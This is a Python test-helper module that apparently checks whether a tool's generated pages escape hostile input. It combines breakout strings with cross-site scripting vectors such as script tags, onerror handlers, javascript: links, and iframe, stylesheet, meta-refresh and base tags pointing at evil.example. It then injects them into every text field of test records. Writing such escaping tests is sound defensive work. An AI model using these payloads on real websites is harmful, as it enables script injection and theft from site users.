"""Records of every kind with what nobody should write into them."""

from __future__ import annotations

import itertools
from collections.abc import Callable, Mapping, Sequence
from dataclasses import fields, is_dataclass, replace
from enum import Enum
from typing import Any

from hasten.facts.plan import Plan
from hasten.facts.trials import Record, Surveyed

BREAKOUTS = (
    "",
    '"',
    "'",
    '">',
    "'>",
    "</td>",
    "</title>",
    "</style>",
    "</svg>",
    "-->",
    "]]>",
    "\x00\x1b[2J",
    "\u202e",
    "&lt;",
)
VECTORS = (
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<svg onload=alert(1)><script>alert(1)</script></svg>",
    '<a href="javascript:alert(1)">x</a>',
    "<iframe src=//evil.example></iframe>",
    "<style>@import '//evil.example/x.css';</style>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    '<meta http-equiv="refresh" content="0;url=//evil.example">',
    "<base href=//evil.example/>",
    "<form action=//evil.example><input autofocus onfocus=alert(1)>",
    "<object data=//evil.example></object>",
    "<math><mtext><table><mglyph><style><img src onerror=alert(1)>",
    " onmouseover=alert(1) style=background:url(//evil.example) x=",
    "&#60;script&#62;alert(1)&#60;/script&#62;",
    "<!--<img src='--><img src=x onerror=alert(1)>",
)  # fmt: skip
PAYLOADS = [f"{breakout}{vector}" for breakout, vector in itertools.product(BREAKOUTS, VECTORS)]


def changed(value: Any, change: Callable[[Any], Any]) -> Any:
    """A record with `change` made to every text and number in it, keys of mappings included, however deep they lie."""
    if is_dataclass(value) and not isinstance(value, type):
        return type(value)(**{each.name: changed(getattr(value, each.name), change) for each in fields(value)})
    if isinstance(value, Mapping):
        return {change(key): changed(item, change) for key, item in value.items()}
    if isinstance(value, tuple | list):
        return type(value)(changed(item, change) for item in value)
    if value is None or isinstance(value, bool | Enum):
        return value
    return change(value)


def with_texts(value: Any, texts: Callable[[], str]) -> Any:
    return changed(value, lambda item: texts() if isinstance(item, str) else item)


def of_one_job(plan: Plan, records: Sequence[Record]) -> Plan:
    """The plan as the search of these records would have written it; else they are left out of its page."""
    surveyed = next(record for record in records if isinstance(record, Surveyed))
    return replace(plan, job=surveyed.fingerprint, machine=surveyed.proven_on)
